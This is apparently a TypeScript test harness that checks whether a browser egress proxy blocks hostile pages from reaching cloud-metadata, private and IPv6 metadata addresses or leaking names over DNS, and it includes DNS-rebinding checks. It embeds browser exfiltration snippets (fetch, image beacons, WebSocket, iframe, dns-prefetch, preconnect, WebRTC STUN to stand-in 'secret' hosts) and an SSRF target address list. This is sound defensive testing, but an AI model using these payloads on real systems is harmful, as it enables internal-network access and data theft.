/** Runs alone in a network namespace, where link-local, private and "public" addresses are all its own. Prints what was hit as JSON. */

import { execFileSync } from 'node:child_process';
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startEgressProxy } from '../../../lib/browser/egress/proxy.ts';
import { allKinds } from '../../sites/hostile-egress/all-kinds.ts';
import { openCanary } from '../../sites/hostile-egress/canary.ts';
import { openDnsCanary } from '../../sites/hostile-egress/dns-canary.ts';
import { openHostileSite } from '../../sites/hostile-egress/hostile-site.ts';
import { byScript, type Kind } from '../../sites/hostile-egress/kind.ts';
import { handsOn, openTestBrowser } from '../open-site.ts';
import { GUARD_FLAGS } from './open-unguarded.ts';
import { getPlain } from './raw-request.ts';
import { visitHostile } from './visit-hostile.ts';

export interface NamespaceReport {
  /** Names of kinds, and of addresses hit. */
  readonly unguarded: readonly string[];
  readonly guarded: readonly string[];
  readonly namesAskedUnguarded: readonly string[];
  readonly namesAskedGuarded: readonly string[];
  readonly rebinding: {
    /** Status codes of the answers, one a request of a name that changes its address each time. */
    readonly statuses: readonly number[];
    readonly publicHits: number;
    readonly privateHits: number;
    readonly mixed: unknown;
    readonly redirected: unknown;
    readonly contacts: readonly unknown[];
  };
}

const METADATA = '169.254.169.254';
const PUBLIC = '93.184.216.34';
const NAME_SERVER = '127.0.0.53';
const PRIVATE = ['10.0.0.1', '172.16.0.1', '192.168.1.1', '100.64.0.1', '169.254.170.2', '169.254.79.129'];
const PRIVATE_6 = ['fd00:ec2::254', 'fd00:ec2::23', '64:ff9b::a9fe:a9fe'];

const run = (command: string, ...args: string[]): void => void execFileSync(command, args, { stdio: 'pipe' });

function prepare(): void {
  run('ip', 'link', 'set', 'lo', 'up');
  for (const address of [METADATA, PUBLIC, ...PRIVATE]) run('ip', 'addr', 'add', `${address}/32`, 'dev', 'lo');
  for (const address of PRIVATE_6) run('ip', '-6', 'addr', 'add', `${address}/128`, 'dev', 'lo', 'nodad');
  const folder = mkdtempSync(join(tmpdir(), 'errand-namespace-'));
  const resolvConf = join(folder, 'resolv.conf');
  writeFileSync(resolvConf, `nameserver ${NAME_SERVER}\noptions timeout:1 attempts:1\n`);
  run('mount', '--bind', resolvConf, realpathSync('/etc/resolv.conf'));
  process.on('exit', () => rmSync(folder, { recursive: true, force: true }));
}

/** A few kinds at each address: whether it is reached is the address's matter, not the kind's. */
const kindsAt = (host: string): readonly Kind[] => [
  byScript(
    `fetch ${host}`,
    ({ own }) => `return fetch('http://${host}${own.replace(' ', '%20')}', { mode: 'no-cors' });`,
  ),
  byScript(`image ${host}`, ({ own }) => `new Image().src = 'http://${host}${own.replace(' ', '%20')}';`),
  byScript(`socket ${host}`, () => `new WebSocket('ws://${host}/socket');`),
  byScript(`frame ${host}`, () => {
    return `const frame = document.createElement('iframe'); frame.src = 'http://${host}/frame'; document.body.append(frame);`;
  }),
];

const dnsAttacks = [
  `document.head.insertAdjacentHTML('beforeend', '<link rel="dns-prefetch" href="//secret.dns-prefetch.test">');`,
  `document.head.insertAdjacentHTML('beforeend', '<link rel="preconnect" href="https://secret.preconnect.test">');`,
  `return fetch('http://secret.fetch.test/', { mode: 'no-cors' });`,
  `new RTCPeerConnection({ iceServers: [{ urls: 'stun:secret.stun.test:3478' }] }).createDataChannel('x');`,
];

async function attack(): Promise<Omit<NamespaceReport, 'rebinding'>> {
  const dns = await openDnsCanary(NAME_SERVER, () => []);
  const canary = await openCanary({ address: METADATA, port: 80, kinds: allKinds });
  const written = (address: string): string => (address.includes(':') ? `[${address}]` : address);
  const others = await Promise.all(
    [...PRIVATE, ...PRIVATE_6].map(address => openCanary({ address, port: 80, kinds: [] })),
  );
  const kinds = [...allKinds, ...[...PRIVATE, ...PRIVATE_6].flatMap(address => kindsAt(written(address)))];
  const site = await openHostileSite({ kinds, canary, more: dnsAttacks });
  const taken = (): string[] => {
    const hits = [...canary.hits(), ...others.flatMap(({ address, log }) => (log.length === 0 ? [] : address))];
    for (const one of [canary, ...others]) one.forget();
    return hits;
  };
  await visitHostile({ url: site.url, without: GUARD_FLAGS });
  const unguarded = taken();
  const namesAskedUnguarded = [...dns.asked];
  dns.forget();
  // The proxy's own resolver is another matter: here it tells nobody.
  const proxy = await startEgressProxy({ allowHosts: [site.host], resolve: async () => [] });
  await visitHostile({ url: site.url, without: [], proxyUrl: proxy.url });
  const guarded = taken();
  const namesAskedGuarded = [...dns.asked];
  await Promise.all([proxy, site, dns, canary, ...others].map(one => one.close()));
  return { unguarded, guarded, namesAskedUnguarded, namesAskedGuarded };
}

/** With the system's own resolver, a name server that lies, and addresses that count as public. */
async function rebind(): Promise<NamespaceReport['rebinding']> {
  const dns = await openDnsCanary(NAME_SERVER, (name, nth) => {
    if (name === 'mixed.test') return [PUBLIC, METADATA];
    if (name === 'late.test') return [METADATA];
    return [nth % 2 === 1 ? PUBLIC : '127.0.0.1'];
  });
  const open = (address: string) => openCanary({ address, port: 80, kinds: [] });
  const [outside, inside, metadata] = await Promise.all([open(PUBLIC), open('127.0.0.1'), open(METADATA)]);
  const proxy = await startEgressProxy({ allowHosts: [], ownAddresses: [] });
  const statuses: number[] = [];
  for (let round = 0; round < 4; round += 1) statuses.push((await getPlain(proxy.url, 'http://rebound.test/')).status);
  await proxy.close();
  const browser = await openTestBrowser({ allowHosts: [], ownAddresses: [] });
  const { act } = handsOn(browser);
  await act({ kind: 'navigate', url: 'http://other.test/' });
  const mixed = await act({ kind: 'navigate', url: 'http://mixed.test/' });
  const redirected = await act({ kind: 'navigate', url: 'http://late.test/' });
  const contacts = browser.contacts();
  await browser.close();
  const report = {
    statuses,
    publicHits: outside.log.length,
    privateHits: inside.log.length + metadata.log.length,
    mixed,
    redirected,
    contacts,
  };
  await Promise.all([dns, outside, inside, metadata].map(one => one.close()));
  return report;
}

prepare();
const report: NamespaceReport = { ...(await attack()), rebinding: await rebind() };
process.stdout.write(`${JSON.stringify(report)}\n`);
process.exit(0);
